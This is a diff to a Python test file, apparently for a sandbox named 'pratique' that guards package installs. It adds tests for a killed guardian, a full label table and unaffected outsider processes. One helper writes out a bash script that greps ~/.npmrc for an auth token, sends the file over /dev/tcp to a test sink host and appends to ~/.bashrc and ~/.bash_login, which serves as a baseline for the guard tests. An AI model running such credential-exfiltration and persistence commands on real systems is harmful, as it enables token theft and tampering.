@@ -4,6 +4,7 @@ import os
 import secrets
 import signal
 import subprocess
+import sys
 import time
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
@@ -68,8 +69,8 @@ def test_agent_killed(guard: None, harbour: World) -> None:
         started = time.monotonic()
         _read_as_outsider(harbour.home.path("~/.npmrc"), 1.0)
 
-        assert settled(install.mark, patience=3.0) == []
-        assert time.monotonic() - started < 3.5
+        assert settled(install.mark, patience=1.0) == []
+        assert time.monotonic() - started < 2.0
     assert left_since(before) == []
 
 
@@ -83,10 +84,28 @@ def test_agent_stopped(guard: None, harbour: World) -> None:
         assert not any("boat-" in _line(pid) for pid in marked(install.mark))
 
 
-def test_outsider_reads_during_a_run(guard: None, harbour: World) -> None:
-    """While a run holds, everybody else opens guarded files as ever."""
+def test_guardian_killed(guard: None, harbour: World) -> None:
+    """After kill -9 of the guardian the agent itself ends the tree, gives 125 and says why; nothing is left."""
+    before = snapshot()
+    with _MidInstall(harbour) as install:
+        os.kill(_guardian_of(install.process.pid), signal.SIGKILL)
+
+        assert install.process.wait(timeout=15) == 125
+        assert settled(install.mark) == []
+    assert left_since(before) == []
+    report = read_report(harbour.folder / "report.json")
+    assert report is not None
+    assert report["run"]["pratique_status"] == 125
+    assert report["run"]["incomplete"] is True
+    assert "guardian" in report["run"]["guard_lost"]
+
+
+def test_outsiders_are_untouched(guard: None, harbour: World) -> None:
+    """While a run holds, and after it, an unlabelled process does all that package code may not."""
     with _MidInstall(harbour):
-        _read_as_outsider(harbour.home.path("~/.npmrc"), 1.0)
+        assert _outsider(harbour) == "secret sent planted made started"
+    assert _outsider(harbour) == "secret sent planted made started"
+    assert [place for place in harbour.leaks() if place == "~/.npmrc"]
 
 
 def test_survivors_are_ended_and_listed(guard: None, world: World) -> None:
@@ -99,6 +118,33 @@ def test_survivors_are_ended_and_listed(guard: None, world: World) -> None:
     listed = {process["pid"]: process["argv"] for process in outcome.report["tree"]}
     assert len(outcome.report["run"]["survivors"]) == 1
     assert listed[outcome.report["run"]["survivors"][0]][-1].startswith("poller-")
+    assert (
+        f"still running after the command and ended: {outcome.report['run']['survivors'][0]}" in outcome.err
+    )
+
+
+def test_label_table_full(guard: None, world: World) -> None:
+    """With no room for more labels nobody runs unlabelled: parent and child die, and the run is incomplete."""
+    report = world.folder / "report.json"
+    small = (
+        "import functools, sys\n"
+        "from pratique import cli\n"
+        "from pratique.backends.hooks import backend\n"
+        "backend.Probes = functools.partial(backend.Probes, label_slots=8)\n"
+        "sys.exit(cli.main(sys.argv[1:]))\n"
+    )
+    # Bounded: 40 children of a few seconds, where 8 labels are to be had.
+    many = "import os, time\nfor _ in range(40):\n    if os.fork() == 0: break\ntime.sleep(20)\n"
+    command = guarded([sys.executable, "-c", many], report)
+    outcome = run([sys.executable, "-c", small, *command[1:]], world.environment(), world.folder, report)
+
+    assert outcome.seconds < 15
+    assert outcome.survivors == ()
+    assert outcome.report is not None
+    assert outcome.report["run"]["incomplete"] is True
+    assert outcome.report["run"]["lost_events"] > 0
+    assert outcome.status == -signal.SIGKILL
+    assert "incomplete" in outcome.err
 
 
 def test_two_runs_at_once(guard: None) -> None:
@@ -160,6 +206,25 @@ def _until(happened: Callable[[], bool], seconds: float) -> None:
 def _read_as_outsider(path: Path, seconds: float) -> None:
     done = subprocess.run(["cat", str(path)], capture_output=True, timeout=seconds, check=False)
     assert done.returncode == 0, done.stderr
+
+
+def _outsider(world: World) -> str:
+    script = (
+        f"grep -q _authToken {world.home.path('~/.npmrc')} && printf 'secret '\n"
+        f"exec 3<>/dev/tcp/{world.network.sink}/8080 && cat {world.home.path('~/.npmrc')} >&3 && printf 'sent '\n"
+        f"echo '# mine' >> {world.home.path('~/.bashrc')} && printf 'planted '\n"
+        f"echo '# mine' > {world.home.path('~/.bash_login')} && printf 'made '\n"
+        "setpriv --version >/dev/null && printf started\n"
+    )
+    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=10, check=False)
+    return done.stdout
+
+
+def _guardian_of(agent: int) -> int:
+    children = Path(f"/proc/{agent}/task/{agent}/children").read_text(encoding="ascii").split()
+    return next(
+        int(pid) for pid in children if Path(f"/proc/{pid}/comm").read_text().startswith("pratique-g")
+    )
 
 
 def _line(pid: int) -> str:
